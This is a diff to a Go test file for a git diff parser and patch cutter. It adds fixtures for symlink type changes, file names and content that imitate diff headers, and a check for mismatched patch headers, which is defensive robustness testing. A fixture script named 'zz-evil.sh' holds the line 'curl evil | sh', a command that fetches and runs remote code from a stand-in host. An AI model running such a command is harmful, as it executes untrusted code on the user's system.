@@ -62,12 +62,20 @@ func s(v string) *string { return &v }
 func hostileRange(t *testing.T) (*Repo, string, string) {
 	g, _ := newTestRepo(t)
 	a := commitFiles(t, g, map[string]*string{"a.txt": s("one\ntwo\n"), "gone.txt": s("bye\n"), "run.sh": s("#!/bin/sh\n"),
-		"bin.dat": s("\x00\x01"), "old/name.txt": s("moved\n")})
+		"bin.dat": s("\x00\x01"), "old/name.txt": s("moved\n"), "typed": s("a file\n")})
+	// a file become a symlink: two parts in git's patch, one file listed
+	if err := os.Remove(filepath.Join(g.Root, "typed")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("a.txt", filepath.Join(g.Root, "typed")); err != nil {
+		t.Fatal(err)
+	}
 	b := commitFiles(t, g, map[string]*string{
 		"a.txt": s("one\nTWO\n"), "gone.txt": nil, "run.sh*": s("#!/bin/sh\n"), "bin.dat": s("\x00\x02"),
 		"old/name.txt": nil, "new/name.txt": s("moved\n"),
 		"x\ndiff --git a/y b/y": s("+not a header\n"), ":100644 100644 a b M": s("raw\n"), "tab\tname": s("t\n"),
 		"long.txt": s(strings.Repeat("L", 1<<20) + "\n"), "zz-evil.sh*": s("#!/bin/sh\ncurl evil | sh\n"),
+		"u-content.txt": s("diff --git a/zz-evil.sh b/zz-evil.sh\n"),
 	})
 	return g, a, b
 }
@@ -88,6 +96,7 @@ func TestDiffFiles(t *testing.T) {
 		"a.txt": "+1 -1", "gone.txt": "+0 -1 deleted", "run.sh": "+0 -0 mode 100644 -> 100755", "bin.dat": "+0 -0 binary",
 		"old/name.txt": "+0 -1 deleted", "new/name.txt": "+1 -0 new", "x\ndiff --git a/y b/y": "+1 -0 new",
 		":100644 100644 a b M": "+1 -0 new", "tab\tname": "+1 -0 new", "long.txt": "+1 -0 new", "zz-evil.sh": "+2 -0 new, mode 100755",
+		"typed": "+1 -1 type 100644 -> 120000", "u-content.txt": "+1 -0 new",
 	}
 	if len(files) != len(want) {
 		t.Errorf("listed %d files, want %d: %+v", len(files), len(want), files)
@@ -116,8 +125,8 @@ func TestPatchCutter(t *testing.T) {
 		t.Fatal(err)
 	}
 	c.Close()
-	if c.Stray != 0 || c.Stopped {
-		t.Errorf("stray %d, stopped %v", c.Stray, c.Stopped)
+	if c.Stray != 0 || c.Stopped || c.Mismatch {
+		t.Errorf("stray %d, stopped %v, mismatch %v", c.Stray, c.Stopped, c.Mismatch)
 	}
 	for i, f := range files {
 		pf := c.Files[i]
@@ -137,8 +146,16 @@ func TestPatchCutter(t *testing.T) {
 				t.Errorf("long.txt: %d lines cut, %d bytes; want 1, %d", n, cut, 1<<20+1-64)
 			}
 		case "zz-evil.sh":
-			if !strings.Contains(text, "+curl evil | sh") {
-				t.Errorf("zz-evil.sh's body not held: %q", text)
+			if !strings.Contains(text, "+curl evil | sh") || strings.Count(text, "diff --git ") != 1 {
+				t.Errorf("zz-evil.sh's part: %q", text)
+			}
+		case "typed":
+			if strings.Count(text, "diff --git a/typed b/typed") != 2 || !strings.Contains(text, "+a.txt") {
+				t.Errorf("the type change's part: %q", text)
+			}
+		case "u-content.txt":
+			if !strings.Contains(text, "+diff --git a/zz-evil.sh") {
+				t.Errorf("a line that reads as a header: %q", text)
 			}
 		case "x\ndiff --git a/y b/y":
 			if !strings.Contains(text, "++not a header") {
@@ -197,6 +214,19 @@ func TestPatchCutterLines(t *testing.T) {
 			t.Errorf("line %d: %+v, want %+v", i, got[i], want[i])
 		}
 	}
+	// a header for another file than the list's at its place is told
+	list := []FileChange{{RawChange: RawChange{Path: "a"}}, {RawChange: RawChange{Path: "b c"}}}
+	c = NewPatchCutter(list, DefaultPatchLimits)
+	c.Write([]byte("diff --git a/a b/a\n+x\ndiff --git a/b c b/b c\n+y\n"))
+	if c.Mismatch {
+		t.Error("a patch that matches its list told as a mismatch")
+	}
+	c = NewPatchCutter(list, DefaultPatchLimits)
+	c.Write([]byte("diff --git a/a b/a\n+x\ndiff --git a/evil b/evil\n+y\n"))
+	if !c.Mismatch {
+		t.Error("a header naming another file than the list's was not told")
+	}
+	c = NewPatchCutter([]FileChange{{Added: 2}}, PatchLimits{Lines: 10, Bytes: 100, LineBytes: 12, Read: 100})
 	before := c.Read
 	if n, err := c.Write(make([]byte, 200)); int64(n) != 100-before || err != ErrPatchRead || !c.Stopped {
 		t.Errorf("past the read limit: wrote %d of 200 after %d, %v", n, before, err)
